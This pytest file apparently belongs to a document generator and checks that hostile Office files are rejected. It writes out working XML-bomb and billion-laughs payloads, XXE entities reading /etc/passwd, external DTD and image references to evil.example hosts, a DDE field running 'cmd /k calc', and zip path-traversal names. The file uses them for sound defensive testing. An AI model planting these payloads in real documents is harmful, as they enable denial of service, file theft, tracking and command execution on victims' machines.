"""Office files from outside: bombs of tags, entities and zip, parts that load from elsewhere. More of what is spoilt:
`tests/writers/test_docx_restyled.py`, `tests/progress/test_read.py`.
"""

from __future__ import annotations

import io
import resource
import zipfile
from time import monotonic

import pytest

from generator import messages, writers
from generator.archive import LARGEST, Archive
from generator.findings import InputError
from generator.readers import read_marks
from generator.source import Templates, package_templates
from tests.kitchen_sink import kitchen_sink
from tests.writers.own_reference import own_reference

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"


def repacked(data: bytes, **parts: bytes) -> bytes:
    """A package with parts written anew, packed as small as may be."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        old = {name: source.read(name) for name in source.namelist()}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in {**old, **parts}.items():
            target.writestr(name, content)
    return made.getvalue()


def laughs(inside: str) -> bytes:
    more = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE x [<!ENTITY a0 "ха">{more}]>{inside}'.encode()


#: Parts of 45 MB at most, which a package holds in some kilobytes.
BOMBS = {
    "tags": f'<w:styles xmlns:w="{W}">'.encode() + b"<a/>" * 11_000_000 + b"</w:styles>",
    "attributes": f'<w:styles xmlns:w="{W}" '.encode()
    + b" ".join(b'a%d=""' % n for n in range(3_500_000))
    + b"/>",
    "tags in UTF-16": f'<w:styles xmlns:w="{W}">{"<a/>" * 5_000_000}</w:styles>'.encode("utf-16"),
    "tags in UTF-7": b'<?xml version="1.0" encoding="utf-7"?><a>' + b"+ADw-a/+AD4-" * 3_500_000 + b"</a>",
    "depth": b"<a>" * 5_000_000 + b"</a>" * 5_000_000,
    "entities": laughs("<x>&a11;</x>"),
    "entities in an attribute": laughs('<x a="&a11;"/>'),
    "a file": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "a type from elsewhere": b'<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd"><x/>',
    "a parameter entity": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.invalid/x.dtd"> %a;]><x/>',
    "zeros": bytes(LARGEST + 1),
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/document.xml", "_rels/.rels", "[Content_Types].xml"]
)
def test_a_bomb_is_no_document(name: str, part: str) -> None:
    """It is refused in seconds, and takes no more memory than it is long."""
    data = repacked(own_reference(), **{part: BOMBS[name]})
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, monotonic()
    found = writers.unsuitable("reference.docx", data)
    if part == "[Content_Types].xml":
        with pytest.raises(InputError):
            restyled(data)
    else:
        assert [one.code for one in found] == ["AR613"]
    assert monotonic() - began < 30
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 < 400_000_000


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_no_list(name: str) -> None:
    """Nor do marks come from one, as DOCX or XLSX."""
    for parts in (
        {"customXml/item1.xml": BOMBS[name], "word/document.xml": b"<a/>"},
        {"xl/workbook.xml": BOMBS[name], "_rels/.rels": _rels(("officeDocument", "xl/workbook.xml", ""))},
    ):
        data = repacked(_empty(), **parts)
        with pytest.raises(InputError) as caught:
            read_marks("список.xlsx", data)
        assert {one.code for one in caught.value.findings} <= {"AR935", "AR936"}


def _empty() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        target.writestr("[Content_Types].xml", "<a/>")
    return made.getvalue()


def _rels(*targets: tuple[str, str, str]) -> bytes:
    each = "".join(
        f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for n, (kind, target, mode) in enumerate(targets)
    )
    return f'<Relationships xmlns="{P}">{each}</Relationships>'.encode()


def restyled(data: bytes) -> bytes:
    return writers.write(
        kitchen_sink(), "docx", Templates({**package_templates().files, "reference.docx": data})
    )


def _with_head(inside: str, *targets: tuple[str, str, str]) -> bytes:
    """A reference whose head says something, and refers to something."""
    archive = Archive(own_reference())
    head = next(name for kind, name in archive.targets("word/document.xml").values() if kind == "header")
    words = f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p><w:r><w:t>Школа</w:t></w:r>{inside}</w:p></w:hdr>'
    rels = f"word/_rels/{head.removeprefix('word/')}.rels"
    return repacked(own_reference(), **{head: words.encode(), rels: _rels(*targets)})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://evil.example/pixel.png"),
        ("image", "file:///etc/passwd"),
        ("image", "\\\\evil.example\\share\\x.png"),
        ("oleObject", "file:///C:/x.xlsx"),
        ("frame", "http://evil.example/"),
        ("attachedTemplate", "http://evil.example/x.dotm"),
    ],
)
def test_what_is_loaded_from_elsewhere_is_refused(kind: str, target: str) -> None:
    """A picture that is fetched tells who opened a document; a file that is taken in would go out with it."""
    data = _with_head("", (kind, target, "External"))
    (finding,) = writers.unsuitable("reference.docx", data)
    assert finding.code == "AR613"
    assert f"берет картинку или текст из другого места, «{target}»" in messages.sentence(finding)
    with pytest.raises(InputError) as caught:
        restyled(data)
    assert caught.value.findings[0].args == (("name", "templates/reference.docx"), *finding.args[1:])


def _field(*parts: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


@pytest.mark.parametrize(
    "field",
    [
        _field(' INCLUDETEXT "file:///etc/passwd" '),
        _field(" INCLU", 'DEPICTURE "http://evil.example/x.png" '),
        _field(" ddeauto cmd '/k calc' "),
        _field(" LINK Excel.Sheet.8 x.xlsx "),
        _field(" PAGE ") + _field(" MACROBUTTON x y "),
        '<w:fldSimple w:instr=" IMPORT x.png "><w:r><w:t>а</w:t></w:r></w:fldSimple>',
    ],
)
def test_fields_that_take_in_files_are_refused(field: str) -> None:
    """Word and LibreOffice would read the file, or start the program, of whoever opens the document."""
    (finding,) = writers.unsuitable("reference.docx", _with_head(field))
    assert finding.code == "AR613"


@pytest.mark.parametrize(
    "field",
    [
        _field(" PAGE ") + _field(" NUMPAGES "),
        _field(' HYPERLINK "https://example.ru/link/import" '),
        _field(' STYLEREF "Link" '),
        _field(" DATE \\@ dd.MM.yyyy "),
    ],
)
def test_fields_of_a_letterhead_are_taken(field: str) -> None:
    """Numbers of pages, addresses to click, days: what letterheads have."""
    data = _with_head(field, ("hyperlink", "https://example.ru/", "External"))
    assert "AR613" not in {one.code for one in writers.unsuitable("reference.docx", data)}
    assert restyled(data).startswith(b"PK")


@pytest.mark.parametrize("name", ["../../../tmp/x", "/etc/x", "..\\x", "C:\\x", "word/../../x"])
def test_names_of_parts_lead_nowhere(name: str) -> None:
    """A package is never unpacked to a disk; a part with such a name is not taken along."""
    with zipfile.ZipFile(io.BytesIO(restyled(repacked(own_reference(), **{name: b"x"})))) as archive:
        assert all(
            part.split("/")[0] in {"word", "docProps", "_rels", "customXml", "[Content_Types].xml"}
            for part in archive.namelist()
        )
        assert not [part for part in archive.namelist() if ".." in part]


def test_large_documents_are_read() -> None:
    """The limit on tags is far from a list of ten thousand rows, as Word saves it."""
    row = (
        "<w:tr>"
        + '<w:tc><w:p w:rsidR="00"><w:r w:rsidRPr="00"><w:t>а</w:t></w:r></w:p></w:tc>' * 8
        + "</w:tr>"
    )
    data = f'<w:document xmlns:w="{W}">{row * 10_000}</w:document>'.encode()
    assert (
        len(Archive(repacked(own_reference(), **{"word/document.xml": data})).root("word/document.xml"))
        == 10_000
    )
